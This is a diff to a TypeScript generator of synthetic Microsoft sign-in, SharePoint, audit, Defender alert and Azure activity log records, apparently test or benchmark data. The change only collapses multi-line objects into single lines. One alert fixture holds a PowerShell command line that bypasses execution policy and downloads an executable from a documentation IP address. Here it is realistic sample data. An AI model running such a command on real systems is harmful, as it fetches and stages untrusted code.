@@ -68,26 +68,9 @@ function signIn(r: Random, policyCount = 1): object {
     homeTenantId: tenant,
     authenticationRequirement: 'multiFactorAuthentication',
     signInIdentifier: u.upn,
-    status: {
-      errorCode: failed ? 50126 : 0,
-      failureReason: failed ? 'Invalid username or password or Invalid on-premise username or password.' : 'Other.',
-      additionalDetails: 'MFA requirement satisfied by claim in the token',
-    },
-    deviceDetail: {
-      deviceId: r.guid(),
-      displayName: `DESKTOP-${r.hex(6)}`,
-      operatingSystem: 'Windows 11',
-      browser: 'Edge 126.0.0',
-      isCompliant: true,
-      isManaged: true,
-      trustType: 'Azure AD joined',
-    },
-    location: {
-      city: r.pick(cities),
-      state: 'Zürich',
-      countryOrRegion: 'CH',
-      geoCoordinates: { altitude: null, latitude: 47.36667, longitude: 8.55 },
-    },
+    status: { errorCode: failed ? 50126 : 0, failureReason: failed ? 'Invalid username or password or Invalid on-premise username or password.' : 'Other.', additionalDetails: 'MFA requirement satisfied by claim in the token' },
+    deviceDetail: { deviceId: r.guid(), displayName: `DESKTOP-${r.hex(6)}`, operatingSystem: 'Windows 11', browser: 'Edge 126.0.0', isCompliant: true, isManaged: true, trustType: 'Azure AD joined' },
+    location: { city: r.pick(cities), state: 'Zürich', countryOrRegion: 'CH', geoCoordinates: { altitude: null, latitude: 47.36667, longitude: 8.55 } },
     appliedConditionalAccessPolicies: policies(r, policyCount),
   }
 }
@@ -127,13 +110,7 @@ function sharePoint(r: Random): object {
     SiteUrl: `${site}/`,
     SourceFileName: file,
     SourceRelativeUrl: `Shared Documents/${r.pick(cities)}`,
-    AppAccessContext: {
-      AADSessionId: r.guid(),
-      ClientAppId: r.guid(),
-      ClientAppName: 'OneDrive SyncEngine',
-      CorrelationId: r.guid(),
-      UniqueTokenId: r.hex(22),
-    },
+    AppAccessContext: { AADSessionId: r.guid(), ClientAppId: r.guid(), ClientAppName: 'OneDrive SyncEngine', CorrelationId: r.guid(), UniqueTokenId: r.hex(22) },
     ApplicationDisplayName: 'Microsoft OneDrive Sync Engine',
     GeoLocation: 'EUR',
     IsManagedDevice: true,
@@ -177,18 +154,7 @@ function audit(r: Random): object {
     activityDateTime: time(r),
     loggedByService: 'Core Directory',
     operationType: 'Update',
-    initiatedBy: {
-      user: {
-        id: u.id,
-        displayName: u.name,
-        userPrincipalName: u.upn,
-        ipAddress: r.address(),
-        userType: 'Member',
-        homeTenantId: tenant,
-        homeTenantName: 'Contoso',
-      },
-      app: null,
-    },
+    initiatedBy: { user: { id: u.id, displayName: u.name, userPrincipalName: u.upn, ipAddress: r.address(), userType: 'Member', homeTenantId: tenant, homeTenantName: 'Contoso' }, app: null },
     targetResources: [
       {
         id: target.id,
@@ -228,10 +194,8 @@ function alert(r: Random): object {
     detectorId: r.guid(),
     tenantId: tenant,
     title: 'Suspicious PowerShell command line',
-    description:
-      'A suspicious PowerShell activity was observed on the machine.\r\nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
-    recommendedActions:
-      '1. Examine the PowerShell command line to understand what commands were executed.\n2. Submit undetected files to the MMPC malware portal.',
+    description: 'A suspicious PowerShell activity was observed on the machine.\r\nThis behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities.',
+    recommendedActions: '1. Examine the PowerShell command line to understand what commands were executed.\n2. Submit undetected files to the MMPC malware portal.',
     category: 'Execution',
     assignedTo: null,
     alertWebUrl: `https://security.microsoft.com/alerts/da${r.below(1_000_000_000)}?tid=${tenant}`,
@@ -244,21 +208,7 @@ function alert(r: Random): object {
     lastActivityDateTime: at,
     comments: [],
     evidence: [
-      {
-        '@odata.type': '#microsoft.graph.security.deviceEvidence',
-        createdDateTime: at,
-        verdict: 'unknown',
-        remediationStatus: 'none',
-        roles: ['attacked'],
-        mdeDeviceId: r.hex(40),
-        deviceDnsName: `${host}.contoso.example`,
-        hostName: host,
-        osPlatform: 'Windows11',
-        version: '23H2',
-        healthStatus: 'active',
-        riskScore: 'high',
-        lastIpAddress: '192.0.2.14',
-      },
+      { '@odata.type': '#microsoft.graph.security.deviceEvidence', createdDateTime: at, verdict: 'unknown', remediationStatus: 'none', roles: ['attacked'], mdeDeviceId: r.hex(40), deviceDnsName: `${host}.contoso.example`, hostName: host, osPlatform: 'Windows11', version: '23H2', healthStatus: 'active', riskScore: 'high', lastIpAddress: '192.0.2.14' },
       {
         '@odata.type': '#microsoft.graph.security.processEvidence',
         createdDateTime: at,
@@ -267,11 +217,7 @@ function alert(r: Random): object {
         roles: [],
         processId: 4780 + r.below(100),
         processCommandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$a = 'x'; Invoke-WebRequest -Uri http://203.0.113.7/${r.hex(6)} -OutFile C:\\Temp\\a.exe"`,
-        imageFile: {
-          fileName: 'powershell.exe',
-          filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
-          sha256: r.hex(64),
-        },
+        imageFile: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0', sha256: r.hex(64) },
         userAccount: { accountName: u.name, domainName: 'CONTOSO', userPrincipalName: u.upn, azureAdUserId: u.id },
       },
     ],
@@ -293,57 +239,22 @@ function activity(r: Random): object {
     callerIpAddress: r.address(),
     correlationId: r.guid(),
     identity: {
-      authorization: {
-        scope: id,
-        action: 'Microsoft.Compute/virtualMachines/write',
-        evidence: {
-          role: 'Contributor',
-          roleAssignmentScope: `/subscriptions/${sub}`,
-          roleAssignmentId: r.hex(32),
-          roleDefinitionId: r.hex(32),
-          principalId: r.hex(32),
-          principalType: 'User',
-        },
-      },
-      claims: {
-        aud: 'https://management.core.windows.net/',
-        iss: `https://sts.windows.net/${tenant}/`,
-        'http://schemas.microsoft.com/identity/claims/objectidentifier': u.id,
-        'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': u.upn,
-        name: u.name,
-        appid: r.guid(),
-        ver: '1.0',
-      },
+      authorization: { scope: id, action: 'Microsoft.Compute/virtualMachines/write', evidence: { role: 'Contributor', roleAssignmentScope: `/subscriptions/${sub}`, roleAssignmentId: r.hex(32), roleDefinitionId: r.hex(32), principalId: r.hex(32), principalType: 'User' } },
+      claims: { aud: 'https://management.core.windows.net/', iss: `https://sts.windows.net/${tenant}/`, 'http://schemas.microsoft.com/identity/claims/objectidentifier': u.id, 'http://schemas.xmlsoap.org/ws/2005/05/identity/claims/upn': u.upn, name: u.name, appid: r.guid(), ver: '1.0' },
     },
     level: 'Information',
     location: 'global',
-    properties: {
-      eventCategory: 'Administrative',
-      entity: id,
-      message: 'Microsoft.Compute/virtualMachines/write',
-      hierarchy: `${tenant}/${sub}`,
-      statusCode: 'Created',
-      serviceRequestId: r.guid(),
-    },
+    properties: { eventCategory: 'Administrative', entity: id, message: 'Microsoft.Compute/virtualMachines/write', hierarchy: `${tenant}/${sub}`, statusCode: 'Created', serviceRequestId: r.guid() },
     tenantId: tenant,
   }
 }
 
-const makers: Readonly<Record<keyof typeof weights, (r: Random) => object>> = {
-  signIn,
-  sharePoint,
-  exchange,
-  audit,
-  alert,
-  activity,
-}
+const makers: Readonly<Record<keyof typeof weights, (r: Random) => object>> = { signIn, sharePoint, exchange, audit, alert, activity }
 
 /** W1 as lines. */
 export function mixed(count: number, seed = 20260601): Buffer[] {
   const r = new Random(seed)
-  const kinds = Object.entries(weights).flatMap(([kind, weight]) =>
-    Array<keyof typeof weights>(weight).fill(kind as keyof typeof weights),
-  )
+  const kinds = Object.entries(weights).flatMap(([kind, weight]) => Array<keyof typeof weights>(weight).fill(kind as keyof typeof weights))
   return Array.from({ length: count }, () => Buffer.from(JSON.stringify(makers[r.pick(kinds)](r))))
 }
 
